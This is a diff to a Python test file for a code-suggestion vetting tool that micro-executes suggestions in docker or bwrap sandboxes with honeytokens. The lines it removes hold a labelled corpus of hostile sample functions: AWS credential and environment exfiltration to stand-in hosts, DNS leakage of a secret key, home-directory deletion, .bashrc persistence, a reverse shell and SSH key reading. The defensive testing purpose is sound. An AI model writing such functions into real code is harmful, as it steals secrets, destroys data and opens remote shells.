@@ -1,9 +1,10 @@
 """Micro-execution and honeytokens, end to end: suggestions that are function bodies placed in their
-documents, vetted by the pipeline on both backends (a small labelled corpus; each decision asserted),
-and the ways a suggestion could dodge the exercise or the honeytokens."""
+documents, vetted by the pipeline on both backends, and the ways a suggestion could dodge the
+exercise or the honeytokens. The labelled corpus is vetted in test_exercise_corpus.py."""
 
 from __future__ import annotations
 
+import dataclasses
 import textwrap
 
 import pytest
@@ -12,207 +13,23 @@ from sandgate.findings import Verdict
 from sandgate.pipeline import Vetter
 from sandgate.policy.load import load_effective
 from sandgate.suggestion import Suggestion
+from tests.sandbox.exercise_corpus import MALICIOUS as CORPUS_MALICIOUS
+from tests.sandbox.exercise_corpus import SERVICE
 
-DOC = '''"""Service helpers."""
-import asyncio
-import hashlib
-import json
-import os
-import shutil
-import socket
-import subprocess
-import tempfile
-import urllib.request
-from dataclasses import dataclass
-from pathlib import Path
-
-import httpx
-import requests
-
-CACHE = Path.home() / ".cache" / "svc"
-
-
-def existing_helper(x):
-    return x * 2
-
-
-class Client:
-    def __init__(self, base_url: str, token: str = ""):
-        self.base_url = base_url
-        self.token = token
-
-'''
-
-# (name, suggestion placed at the end of DOC, decision under balanced)
-MALICIOUS = [
-    (
-        "aws-credentials-posted",
-        """
-def upload_report(report_id: str) -> None:
-    creds = Path(os.path.expanduser("~/.aws/credentials")).read_text()
-    httpx.post("https://metrics-collector.example.net/r", data={"id": report_id, "c": creds}, timeout=10)
-""",
-        Verdict.BLOCK,
-    ),
-    (
-        "cache-cleaner-deletes-home",
-        """
-def clear_cache() -> None:
-    target = os.path.expanduser("~")
-    shutil.rmtree(target, ignore_errors=True)
-""",
-        Verdict.BLOCK,
-    ),
-    (
-        "env-secret-as-dns-label",
-        """
-def health_ping() -> bool:
-    tag = os.environ.get("AWS_SECRET_ACCESS_KEY", "")[:24].replace("/", "").lower()
-    try:
-        socket.gethostbyname(tag + ".status.example.org")
-    except OSError:
-        return False
-    return True
-""",
-        Verdict.BLOCK,
-    ),
-    (
-        "environ-posted-by-method",
-        """
-    def fetch(self, path: str) -> dict:
-        requests.post("https://telemetry.example.io/v1", json=dict(os.environ), timeout=5)
-        return requests.get(self.base_url + path, timeout=5).json()
-""",
-        Verdict.BLOCK,
-    ),
-    (
-        "bashrc-persistence",
-        """
-def install_completion() -> None:
-    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
-        rc.write("eval \\"$(svc completion bash)\\"\\n")
-""",
-        Verdict.BLOCK,
-    ),
-    (
-        "reverse-shell",
-        """
-def debug_console(port: int = 4444) -> None:
-    s = socket.socket()
-    s.connect(("203.0.113.50", port))
-    for fd in (0, 1, 2):
-        os.dup2(s.fileno(), fd)
-    subprocess.call(["/bin/sh", "-i"])
-""",
-        Verdict.BLOCK,
-    ),
-    (
-        "ssh-key-in-process-argument",
-        """
-def sync_keys(host: str) -> None:
-    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
-    subprocess.run(["ssh-keygen", "-y", "-f", "/dev/stdin", key[40:120]], check=False)
-""",
-        Verdict.BLOCK,
-    ),
-    (
-        "secret-file-scan",
-        """
-def find_config() -> list:
-    import glob
-    found = []
-    for pattern in ("/root/.ssh/*", os.path.expanduser("~/.ssh/*")):
-        found += glob.glob(pattern)
-    return [open(p).read() for p in found]
-""",
-        Verdict.REVIEW,
-    ),
-]
-
-BENIGN = [
-    (
-        "http-get-with-timeout",
-        """
-def fetch_json(url: str, timeout: float = 10.0) -> dict:
-    resp = requests.get(url, timeout=timeout)
-    resp.raise_for_status()
-    return resp.json()
-""",
-    ),
-    (
-        "git-argv",
-        """
-def current_branch(repo: str) -> str:
-    out = subprocess.run(["git", "-C", repo, "rev-parse", "--abbrev-ref", "HEAD"], capture_output=True, text=True)
-    return out.stdout.strip()
-""",
-    ),
-    (
-        "atomic-json-write",
-        """
-def save_state(path: Path, state: dict) -> None:
-    fd, tmp = tempfile.mkstemp(dir=path.parent, suffix=".tmp")
-    with os.fdopen(fd, "w") as f:
-        json.dump(state, f)
-    os.replace(tmp, path)
-""",
-    ),
-    (
-        "asyncio-gather",
-        """
-async def gather_squares(n: int = 3) -> list:
-    async def one(i):
-        await asyncio.sleep(0.5)
-        return i * i
-    return await asyncio.gather(*(one(i) for i in range(n)))
-""",
-    ),
-    (
-        "scrypt-hash",
-        """
-def hash_password(password: str, salt: bytes) -> bytes:
-    return hashlib.scrypt(password.encode(), salt=salt, n=2**10, r=8, p=1)
-""",
-    ),
-    (
-        "method-uses-token-for-header",
-        """
-    def headers(self) -> dict:
-        token = self.token or os.environ.get("API_TOKEN", "")
-        return {"Authorization": f"Bearer {token}", "Accept": "application/json"}
-""",
-    ),
-    (
-        "dataclass-method",
-        """
-@dataclass
-class Order:
-    qty: int
-    price: float
-
-    def total(self) -> float:
-        return round(self.qty * self.price * 1.2, 2)
-""",
-    ),
-    (
-        "retry-with-sleep",
-        """
-def with_retries(fn, attempts: int = 5):
-    import time
-    for i in range(attempts):
-        try:
-            return fn()
-        except Exception:
-            time.sleep(2 ** i)
-    raise RuntimeError("gave up")
-""",
-    ),
-]
+DOC = SERVICE
+# The first cases of the corpus (tests/sandbox/exercise_corpus.py), which the tests below name.
+MALICIOUS = [(c.name, c.snippet, c.expected) for c in CORPUS_MALICIOUS[:8]]
 
 
 @pytest.fixture(scope="module", params=["docker", "bwrap"])
 def vetter(request):
-    v = Vetter(load_effective(None, preset="balanced"), backend=request.param)
+    # These tests are about what the run sees. Balanced's capability rules would block most of
+    # these suggestions before they run (tests/core/test_capabilities.py), so they are left out.
+    loaded = load_effective(None, preset="balanced")
+    rules = tuple(r for r in loaded.policy.rules if r.source != "capability")
+    v = Vetter(
+        dataclasses.replace(loaded, policy=dataclasses.replace(loaded.policy, rules=rules)), backend=request.param
+    )
     backend, probes = v.backend()
     assert backend is not None and backend.name == request.param, probes
     v.warm()
@@ -223,21 +40,6 @@ def vet(vetter, snippet: str):
     text = textwrap.dedent(snippet).lstrip("\n") if not snippet.startswith("\n    ") else snippet.lstrip("\n")
     lines = DOC.count("\n")
     return vetter.vet(Suggestion(text, document=DOC, line=lines, character=0, path="svc.py"))
-
-
-def test_corpus(vetter):
-    wrong = []
-    for name, snippet, expected in MALICIOUS:
-        result = vet(vetter, snippet)
-        if result.verdict is not expected:
-            wrong.append((name, result.verdict, [f.rule for f in result.findings]))
-    for name, snippet in BENIGN:
-        result = vet(vetter, snippet)
-        if result.verdict is not Verdict.ALLOW:
-            wrong.append(
-                (name, result.verdict, [(f.rule, f.message[:90]) for f in result.findings if f.severity.value > 0])
-            )
-    assert not wrong, wrong
 
 
 def test_findings_name_the_function_and_line(vetter):
